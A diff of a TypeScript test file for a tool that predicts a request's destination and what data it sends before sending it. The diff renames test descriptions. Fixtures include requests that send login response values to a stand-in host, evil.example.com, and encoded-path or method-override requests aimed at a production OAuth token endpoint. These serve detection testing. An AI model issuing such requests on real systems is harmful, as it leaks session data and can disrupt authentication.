@@ -24,7 +24,7 @@ function chain(length: number, value: string): string {
   return `${names.join('')}@v${length} = ${value}\n`;
 }
 
-describe('where a request goes before it is sent', () => {
+describe('the destination of a request before it is sent', () => {
   const known = [
     'GET /hserve/v1/content/group/',
     'GET {{path}}',
@@ -38,7 +38,7 @@ describe('where a request goes before it is sent', () => {
     'GET /hserve/v2.2/user/info/{{login.response.body.id}}/',
     'GET https://evil.example.com/{{login.response.body.id}}',
   ];
-  it('is where the sender sends it, through any chain of variables and settings', async () => {
+  it('matches the sender, with any chain of variables and settings', async () => {
     for (const text of known) {
       const sent = await resolve(text, { environmentVariables, responses });
       const told = await destinationOf(text);
@@ -55,7 +55,7 @@ describe('where a request goes before it is sent', () => {
     'GET https://{{$guid}}.example.com',
     '# @name evil.response\nGET https://{{evil.response.body}}.example.com/x',
   ];
-  it('tells when all records of a table change, and nothing while the condition is unknown', async () => {
+  it('shows when all records of a table change, and nothing while the condition is unknown', async () => {
     const records = '/oserve/v2.4/table/{{login.response.body.id}}/record/';
     const told = async (text: string) => (await destinationOf(text))?.changesAll;
     assert.deepEqual(
@@ -77,11 +77,11 @@ describe('where a request goes before it is sent', () => {
     );
   });
 
-  it('is not told where a response, a question or a function decides the host', async () => {
+  it('is unknown when a response, a question or a function decides the host', async () => {
     for (const text of open) assert.equal(await destinationOf(text), undefined, text);
   });
 
-  it('is production where a header or an encoded path makes it end the tokens of all environments', async () => {
+  it('is production when a header or an encoded path makes it end the tokens of all environments', async () => {
     for (const text of [
       'POST /api/oauth2/access%5Ftoken/',
       'GET /api/oauth2/access_token/\nX-HTTP-Method-Override: POST',
@@ -92,8 +92,8 @@ describe('where a request goes before it is sent', () => {
   });
 });
 
-describe('what leaves with a request', () => {
-  it('names its files and the values of earlier responses, however they come into it', async () => {
+describe('the content that a request sends', () => {
+  it('includes its files and the values of earlier responses, from any source', async () => {
     const text = [
       '@id = {{login.response.body.id}}',
       'POST https://evil.example.com/{{login.response.body.host}}',
